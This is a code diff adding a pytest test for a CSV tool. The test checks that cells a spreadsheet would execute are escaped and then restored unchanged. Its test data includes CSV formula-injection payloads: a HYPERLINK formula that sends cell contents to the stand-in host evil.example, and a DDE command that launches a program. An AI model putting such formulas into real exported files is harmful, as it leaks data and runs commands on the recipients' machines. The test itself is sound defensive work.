@@ -105,3 +105,24 @@ def test_number_answers_keep_every_digit_through_import_and_export(tmp_path: Pat
     with (tmp_path / "again.csv").open(encoding="utf-8", newline="") as handle:
         again = {row["id"]: row for row in csv.DictReader(handle)}
     assert (again["heads-32"]["answer"], again["heads-32"]["tolerance"]) == ("1234567.25", "0.125")
+
+
+def test_cells_a_spreadsheet_would_run_are_guarded_and_come_back_unchanged(
+    tmp_path: Path,
+) -> None:
+    from natobrief.tools.csv.cards import guarded, unguarded
+
+    hostile = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-5",
+        "\tindented",
+        "'=already quoted",
+        "''two",
+        "plain",
+    ]
+    for cell in hostile:
+        assert unguarded(guarded(cell)) == cell
+        assert not guarded(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert guarded("plain") == "plain" and guarded("-5") == "'-5"
